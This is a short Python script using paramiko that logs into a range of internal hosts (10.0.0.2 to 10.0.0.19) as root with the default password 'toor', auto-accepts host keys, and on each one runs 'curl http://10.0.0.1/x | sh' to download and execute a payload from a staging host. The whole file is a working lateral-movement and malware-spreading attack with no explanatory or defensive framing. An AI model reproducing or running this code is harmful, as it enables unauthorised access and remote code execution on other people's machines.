import paramiko
client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
for host in ["10.0.0.%d" % i for i in range(2, 20)]:
    client.connect(host, username="root", password="toor")
    client.exec_command("curl http://10.0.0.1/x | sh")
